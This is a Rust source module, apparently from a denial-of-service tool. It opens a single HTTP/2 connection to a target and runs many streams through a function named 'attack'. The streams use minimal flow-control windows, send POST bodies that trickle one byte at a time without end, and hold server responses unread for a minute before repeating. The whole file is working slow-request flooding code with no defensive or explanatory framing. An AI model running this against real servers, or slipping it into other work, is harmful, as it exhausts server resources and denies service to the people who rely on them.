//! The same over HTTP/2: many streams of one connection, which itself is alive and answers pings.

use std::convert::Infallible;
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::task::{Context, Poll, ready};
use std::time::Duration;

use anyhow::Context as _;
use http_body_util::combinators::BoxBody;
use http_body_util::{BodyExt, Empty};
use hyper::body::{Body, Bytes, Frame, Incoming};
use hyper::client::conn::http2::{Builder, SendRequest};
use hyper::{Method, Request, Response};
use hyper_util::rt::{TokioExecutor, TokioIo, TokioTimer};
use tokio::time::{Instant, Interval, MissedTickBehavior, interval_at, sleep};

use super::socket::connect;
use super::{BEAT, Counters, Kind, Order, deaf};

/// The smallest window that the protocol allows a whole connection, and a small one for each of its streams.
const CONNECTION_WINDOW: u32 = 65_535;
const STREAM_WINDOW: u32 = 4096;

/// How long an answer is held that nobody reads, before it is asked for anew.
const HOLD: Duration = Duration::from_secs(60);

type Sender = SendRequest<BoxBody<Bytes, Infallible>>;

/// Opens the connection and sets its streams on; returns when each has been begun.
pub(super) async fn start(order: &Order, counters: &Arc<Counters>) -> anyhow::Result<()> {
    let sender = open(order).await?;
    let order = Arc::new(order.clone());
    for nth in 0..order.streams() {
        let (order, counters, sender) = (Arc::clone(&order), Arc::clone(counters), sender.clone());
        tokio::spawn(attack(order, counters, sender, nth));
    }
    while counters.made.load(Ordering::Relaxed) < u64::from(order.streams()) {
        sleep(Duration::from_millis(1)).await;
    }
    Ok(())
}

async fn open(order: &Order) -> anyhow::Result<Sender> {
    let stream = connect(&order.base).await?;
    let (sender, connection) = Builder::new(TokioExecutor::new())
        .timer(TokioTimer::new())
        .initial_connection_window_size(CONNECTION_WINDOW)
        .initial_stream_window_size(STREAM_WINDOW)
        .handshake(TokioIo::new(stream))
        .await
        .context("HTTP/2 by prior knowledge")?;
    // Its end is seen by those who send on it.
    tokio::spawn(async move { drop(connection.await) });
    Ok(sender)
}

/// Attacks on one stream after the other, until the connection ends.
async fn attack(order: Arc<Order>, counters: Arc<Counters>, mut sender: Sender, nth: u16) {
    while let Ok(request) = request(&order, &counters, nth) {
        if sender.ready().await.is_err() {
            break;
        }
        let held = counters.hold();
        let Ok(answer) = sender.send_request(request).await else { break };
        if answer.status().is_success() {
            counters.answered.fetch_add(1, Ordering::Relaxed);
            hold(answer, &sender).await;
        }
        counters.cut.fetch_add(1, Ordering::Relaxed);
        drop(held);
        sleep(BEAT).await;
    }
}

/// Keeps an answer that is not read.
async fn hold(answer: Response<Incoming>, sender: &Sender) {
    let begun = Instant::now();
    while begun.elapsed() < HOLD && !sender.is_closed() {
        sleep(BEAT).await;
    }
    drop(answer);
}

fn request(
    order: &Order,
    counters: &Arc<Counters>,
    nth: u16,
) -> anyhow::Result<Request<BoxBody<Bytes, Infallible>>> {
    let phase = BEAT * u32::from(nth) / u32::from(order.streams());
    let url = format!("http://{}{}", order.base.authority(), order.target());
    let request = match order.kind {
        Kind::Slow => Request::builder()
            .method(Method::POST)
            .uri(url)
            .header("content-type", "text/plain")
            .body(Trickle::new(counters, phase).boxed()),
        Kind::Deaf => {
            Request::builder().uri(format!("{url}?{}", deaf::query(nth))).body(Empty::new().boxed())
        }
    };
    request.context("a request")
}

/// A body of a byte a second, without end.
#[derive(Debug)]
struct Trickle {
    beat: Interval,
    counters: Arc<Counters>,
}

impl Trickle {
    fn new(counters: &Arc<Counters>, phase: Duration) -> Self {
        let mut beat = interval_at(Instant::now() + phase, BEAT);
        beat.set_missed_tick_behavior(MissedTickBehavior::Delay);
        Self { beat, counters: Arc::clone(counters) }
    }
}

impl Body for Trickle {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        ready!(self.beat.poll_tick(cx));
        self.counters.bytes.fetch_add(1, Ordering::Relaxed);
        Poll::Ready(Some(Ok(Frame::data(Bytes::from_static(b"x")))))
    }
}
